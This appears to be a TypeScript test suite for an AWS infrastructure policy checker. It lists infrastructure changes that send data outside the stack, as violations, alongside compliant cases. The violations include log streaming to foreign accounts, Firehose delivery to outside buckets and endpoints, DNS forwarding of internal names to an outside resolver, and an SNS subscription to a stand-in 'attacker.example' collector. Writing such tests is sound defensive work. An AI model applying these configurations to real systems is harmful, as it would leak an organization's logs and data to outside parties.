/**
 * Class 6: where data goes when the destination is not an account-bearing ARN. A delivery
 * stream's bucket ARN, a vended-log destination's bucket, an account-wide subscription policy's
 * JSON document, an API destination's URL, a resolver rule's target addresses and an S3 write
 * permission all name a sink that must resolve to the stack (its buckets, its destinations, its
 * VPC), to AWS itself, or to an external service stated once in subscriberDomains.
 */
import { ACCOUNT, add, all, Case, doc, edit, FOREIGN, named, suite, tags } from "./support";

const FIREHOSE = "aws:kinesis/firehoseDeliveryStream:FirehoseDeliveryStream";
const ACCOUNT_POLICY = "aws:cloudwatch/logAccountPolicy:LogAccountPolicy";
const API_DESTINATION = "aws:cloudwatch/eventApiDestination:EventApiDestination";
const RESOLVER_RULE = "aws:route53/resolverRule:ResolverRule";
const VPC = "vpc-0e6ad3833cd78ec1f";
const FIREHOSE_ROLE = `arn:aws:iam::${ACCOUNT}:role/firehose-role`;
const taskMay = (statement: object) => edit("aws:iam/rolePolicy:RolePolicy", p => {
    const d = JSON.parse(p.policy);
    d.Statement.push(statement);
    p.policy = JSON.stringify(d);
}, named("backend-roles-task-policy"));
const subscribeAll = (name: string, destination: string) => add(ACCOUNT_POLICY, name, {
    policyName: "all-logs", policyType: "SUBSCRIPTION_FILTER_POLICY", scope: "ALL", policyDocument: JSON.stringify({ DestinationArn: destination, FilterPattern: "" }),
});
const stream = (name: string, props: object) => add(FIREHOSE, name, { name: `expertconnect-${name}`, serverSideEncryption: { enabled: true, keyType: "AWS_OWNED_CMK" }, tags: tags("logging"), ...props });
const hook = (name: string, url: string) => add(API_DESTINATION, name, { name, httpMethod: "POST", invocationEndpoint: url, connectionArn: `arn:aws:events:us-east-1:${ACCOUNT}:connection/${name}/abc` });
const forward = (name: string, ip: string) => add(RESOLVER_RULE, name, { domainName: "corp.expertconnect.example", ruleType: "FORWARD", resolverEndpointId: "rslvr-out-0123456789abcdef0", targetIps: [{ ip, port: 53 }], tags: tags("network") });

const violations: Case[] = [
    { name: "the backend task role may put objects into any bucket of its own account: the trail's, Config's and the load balancer's log buckets among them, beyond its purpose", change: taskMay({ Sid: "Own", Effect: "Allow", Action: "s3:PutObject", Resource: "*", Condition: { StringEquals: { "aws:ResourceAccount": ACCOUNT } } }) },
    { name: "every log group of the account streamed to another account's destination", change: subscribeAll("all-logs-out", `arn:aws:logs:us-east-1:${FOREIGN}:destination:central`) },
    { name: "every log group streamed to a destination of the account the stack does not hold", change: subscribeAll("all-logs-other", `arn:aws:logs:us-east-1:${ACCOUNT}:destination:other`) },
    { stack: "dr", name: "dr: every log group streamed to another account's destination", change: subscribeAll("dr-all-logs-out", `arn:aws:logs:us-west-2:${FOREIGN}:destination:central`) },
    { name: "Firehose into a bucket the stack does not hold (no account in the ARN)", change: stream("logs-archive", { destination: "extended_s3", extendedS3Configuration: { roleArn: FIREHOSE_ROLE, bucketArn: "arn:aws:s3:::partner-log-archive" } }) },
    {
        name: "Firehose to an external HTTP endpoint, failed records to the stack's bucket",
        change: stream("logs-vendor", { destination: "http_endpoint", httpEndpointConfiguration: { url: "https://ingest.logs-vendor.example.net/v1", name: "vendor", roleArn: FIREHOSE_ROLE, s3BackupMode: "FailedDataOnly", s3Configuration: { roleArn: FIREHOSE_ROLE, bucketArn: "arn:aws:s3:::expertconnect-backup" } } }),
    },
    {
        name: "vended-log delivery chain to a bucket the stack does not hold",
        change: all(
            add("aws:cloudwatch/logDeliverySource:LogDeliverySource", "vend-src", { name: "db-tasks-src", logType: "APPLICATION_LOGS", resourceArn: `arn:aws:lambda:us-east-1:${ACCOUNT}:function:expertconnect-prod-db-tasks` }),
            add("aws:cloudwatch/logDeliveryDestination:LogDeliveryDestination", "vend-out", { name: "vend-out", outputFormat: "json", deliveryDestinationConfiguration: { destinationResourceArn: "arn:aws:s3:::vendor-logs-drop" }, tags: tags("logging") }),
            add("aws:cloudwatch/logDelivery:LogDelivery", "vend-delivery", { deliverySourceName: "db-tasks-src", deliveryDestinationArn: `arn:aws:logs:us-east-1:${ACCOUNT}:delivery-destination:vend-out` })),
    },
    { name: "an API destination to an external webhook, alone", change: hook("hook", "https://hooks.example.net/collect") },
    {
        name: "GuardDuty findings also sent to an API destination the stack does not hold",
        change: add("aws:cloudwatch/eventTarget:EventTarget", "gd-webhook", { rule: "monitoring-guardduty-high-severity", arn: `arn:aws:events:us-east-1:${ACCOUNT}:api-destination/hook/abc`, roleArn: `arn:aws:iam::${ACCOUNT}:role/events-api` }),
    },
    { name: "a resolver rule forwarding internal names to an outside resolver", change: forward("fwd-out", "203.0.113.53") },
    {
        name: "the VPC associated with a resolver rule the stack does not hold",
        change: add("aws:route53/resolverRuleAssociation:ResolverRuleAssociation", "fwd-assoc", { resolverRuleId: "rslvr-rr-0123456789abcdef0", vpcId: VPC }),
    },
    { name: "the backend task role may put objects into any bucket", change: taskMay({ Sid: "Uploads", Effect: "Allow", Action: "s3:PutObject", Resource: "arn:aws:s3:::*/*" }) },
    { name: "the backend task role may put objects into a named bucket the stack does not hold", change: taskMay({ Sid: "Reports", Effect: "Allow", Action: ["s3:PutObject", "s3:PutObjectAcl"], Resource: "arn:aws:s3:::partner-reports-drop/*" }) },
    { name: "the backend task role may put objects into any bucket named like the stack's", change: taskMay({ Sid: "Mirror", Effect: "Allow", Action: "s3:PutObject", Resource: "arn:aws:s3:::expertconnect-*/*" }) },
    { name: "the backend task role may send messages to another account's queue", change: taskMay({ Sid: "Relay", Effect: "Allow", Action: "sqs:SendMessage", Resource: `arn:aws:sqs:us-east-1:${FOREIGN}:collector` }) },
    { name: "the backend task role may put events on every account's bus", change: taskMay({ Sid: "Events", Effect: "Allow", Action: "events:PutEvents", Resource: "*" }) },
    {
        name: "the alarms topic also delivers to an outside HTTPS collector",
        change: add("aws:sns/topicSubscription:TopicSubscription", "alarms-collector", { topic: `arn:aws:sns:us-east-1:${ACCOUNT}:expertconnect-alarms`, protocol: "https", endpoint: "https://collector.attacker.example/sns" }),
    },
    {
        name: "static uploads notify a function of another account",
        change: add("aws:s3/bucketNotification:BucketNotification", "static-notify-fn", { bucket: "expertconnect-prod-static",
            lambdaFunctions: [{ lambdaFunctionArn: `arn:aws:lambda:us-east-1:${FOREIGN}:function:uploads-forwarder`, events: ["s3:ObjectCreated:*"] }] }),
    },
    {
        name: "the DB tasks function's results delivered to a function of another account",
        change: add("aws:lambda/functionEventInvokeConfig:FunctionEventInvokeConfig", "db-tasks-results", { functionName: "expertconnect-prod-db-tasks",
            destinationConfig: { onSuccess: { destination: `arn:aws:lambda:us-east-1:${FOREIGN}:function:results-forwarder` } } }),
    },
    {
        name: "a database's S3 export role may write into a bucket the stack does not hold",
        change: all(
            add("aws:iam/role:Role", "rds-s3-export", { name: "expertconnect-rds-s3-export", tags: tags("database"), assumeRolePolicy: doc({ Effect: "Allow", Principal: { Service: "rds.amazonaws.com" }, Action: "sts:AssumeRole", Condition: { StringEquals: { "aws:SourceAccount": ACCOUNT } } }) }),
            add("aws:iam/rolePolicy:RolePolicy", "rds-s3-export-policy", { role: "expertconnect-rds-s3-export", policy: doc({ Effect: "Allow", Action: ["s3:PutObject", "s3:AbortMultipartUpload"], Resource: "arn:aws:s3:::analytics-dropbox-ext/*" }) }),
            add("aws:rds/roleAssociation:RoleAssociation", "rds-s3-export-assoc", { dbInstanceIdentifier: "expertconnect-prod-db", featureName: "s3Export", roleArn: `arn:aws:iam::${ACCOUNT}:role/expertconnect-rds-s3-export` })),
    },
];

const compliant: Case[] = [
    {
        name: "the alarms topic also invokes a Slack notifier function of this account",
        change: add("aws:sns/topicSubscription:TopicSubscription", "alarms-slack", { topic: `arn:aws:sns:us-east-1:${ACCOUNT}:expertconnect-alarms`, protocol: "lambda", endpoint: `arn:aws:lambda:us-east-1:${ACCOUNT}:function:expertconnect-slack-notifier` }),
    },
    { name: "Firehose into the stack's own log bucket", change: stream("logs-own", { destination: "extended_s3", extendedS3Configuration: { roleArn: FIREHOSE_ROLE, bucketArn: "arn:aws:s3:::expertconnect-prod-alb-logs", prefix: "firehose/" } }) },
    { name: "an API destination to the paging service (subscriberDomains)", change: hook("pager", "https://events.pagerduty.com/v2/enqueue") },
    { name: "an API destination to a host of the organization's own domain", change: hook("own", "https://hooks.app.expertconnect.example/in") },
    { name: "a resolver rule forwarding to a resolver inside the VPC", change: forward("fwd-in", "10.0.12.2") },
    { name: "the backend task role may put objects into the backup bucket", change: taskMay({ Sid: "Backup", Effect: "Allow", Action: "s3:PutObject", Resource: "arn:aws:s3:::expertconnect-backup/exports/*" }) },
    { name: "GuardDuty findings archived to a log group of the account", change: add("aws:cloudwatch/eventTarget:EventTarget", "gd-archive", { rule: "monitoring-guardduty-high-severity", arn: `arn:aws:logs:us-east-1:${ACCOUNT}:log-group:/aws/events/guardduty` }) },
];

suite("adversarial class 6: data sinks resolve to the stack, AWS or a configured service", violations, compliant);
